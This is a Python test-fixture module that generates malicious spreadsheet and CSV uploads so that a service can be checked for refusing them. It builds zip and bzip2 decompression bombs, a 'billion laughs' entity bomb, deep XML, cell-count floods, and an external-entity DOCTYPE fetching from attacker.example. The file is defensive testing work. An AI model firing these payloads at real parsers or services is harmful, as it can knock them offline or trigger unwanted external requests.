"""Sheets that somebody made to keep the service busy, or to make it do what a sheet should not."""

import io
import zipfile
from collections.abc import Callable, Mapping

from openpyxl import Workbook


def workbook(*rows: list[object]) -> bytes:
    book, buffer = Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(buffer)
    return buffer.getvalue()


_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def hostile(rows: str, *, before: str = "", encoding: str = "utf-8", **more: bytes) -> bytes:
    """A workbook whose first sheet has this XML between `<sheetData>` and its end."""
    data = f"<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>"
    sheet = f'<?xml version="1.0" encoding="{encoding}"?>{before}{data}'
    changed = {"xl/worksheets/sheet1.xml": sheet.encode(encoding), **more}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(["a"], ["b"]))) as good,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed,
    ):
        for name in good.namelist():
            packed.writestr(name, changed.pop(name, None) or good.read(name))
        for name, content in changed.items():
            packed.writestr(name, content)
    return buffer.getvalue()


_LAUGHS = "<!DOCTYPE worksheet [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)
_TEXTS = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_ONE_TEXT = f"<sst {_MAIN}><si><t>{'x' * 1_000}</t></si></sst>"
_NAMED_IN_A_ROW = "<row>" + '<c t="s"><v>0</v></c>' * 40 + "</row>"
_ROW = '<row r="{}"><c r="A{}" t="inlineStr"><is><t>x</t></is></c></row>'
_HEAD = _ROW.format(1, 1)


def one_text_in_every_cell() -> bytes:
    """Some 20 kB, of which whoever counts no characters makes 200 MB."""
    with zipfile.ZipFile(io.BytesIO(workbook(["a"]))) as good:
        types = good.read("[Content_Types].xml").replace(b"</Types>", f"{_TEXTS}</Types>".encode())
    parts = {"xl/sharedStrings.xml": _ONE_TEXT.encode(), "[Content_Types].xml": types}
    return hostile(_NAMED_IN_A_ROW * 5_000, **parts)


def damaged(packed: bytes) -> bytes:
    """The archive with every part's octets turned round, and its directory as it was."""
    spoiled = bytearray(packed)
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        for entry in archive.infolist():
            begin = entry.header_offset + 30 + len(entry.filename)
            for place in range(begin, begin + entry.compress_size):
                spoiled[place] ^= 0xFF
    return bytes(spoiled)


def other_compression() -> bytes:
    """Parts packed by bzip2, whose unpacker in `zipfile` knows no bounds: 64 KiB may become a gigabyte at once."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(["a"], ["b"]))) as good,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as packed,
    ):
        for name in good.namelist():
            packed.writestr(name, good.read(name))
    return buffer.getvalue()


HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "zip-bomb": ("too-large", lambda: hostile("", **{"xl/media/image1.png": b"0" * (64 * 1024 * 1024)})),
    "many-parts": ("too-large", lambda: hostile("", **{f"xl/x{n}.xml": b"<x/>" for n in range(300)})),
    "many-elements": ("too-large", lambda: hostile("", **{"xl/x.xml": b"<x>" + b"<y/>" * 2_000_000 + b"</x>"})),
    "deep-xml": ("too-large", lambda: hostile("<a>" * 100_000)),
    "million-empty-cells": ("too-many-cells", lambda: hostile(_HEAD + '<row r="2">' + "<c/>" * 1_000_000 + "</row>")),
    "ten-thousand-columns": ("too-many-columns", lambda: workbook(["x"] * 10_000, ["1"])),
    "last-row-of-all": ("too-many-rows", lambda: hostile(_HEAD + _ROW.format(1_048_576, 1_048_576))),
    "xml-bomb": ("entities", lambda: hostile(_HEAD + '<row r="2"><c><v>&a9;</v></c></row>', before=_LAUGHS)),
    "xml-bomb-utf-16": ("entities", lambda: hostile(_HEAD, before=_LAUGHS, encoding="utf-16")),
    "external-entity": ("entities", lambda: hostile(_HEAD, before='<!DOCTYPE x SYSTEM "http://attacker.example/x">')),
    "one-text-in-every-cell": ("too-large", one_text_in_every_cell),
    "damaged": ("not-a-sheet", lambda: damaged(workbook(["a"], ["b" * 5_000]))),
    "other-compression": ("not-a-sheet", other_compression),
    "macros": ("formulas", lambda: hostile(_HEAD, **{"xl/vbaProject.bin": b"x"})),
    "formula": ("formulas", lambda: hostile(_HEAD + '<row r="2"><c r="A2"><f>1+1</f><v>2</v></c></row>')),
    "csv-columns": ("too-many-columns", lambda: b"a," * 10_000 + b"b\n1\n"),
    "csv-one-huge-cell": ("not-a-sheet", lambda: b"a\n" + b"x" * 1_900_000),
    "csv-commas": ("empty", lambda: b"a\n" + b"," * 2_000_000),
    "csv-empty-rows": ("too-many-rows", lambda: b"a\n" + b"\n" * 2_000_000),
}
"""Why each is refused, and how it is made."""
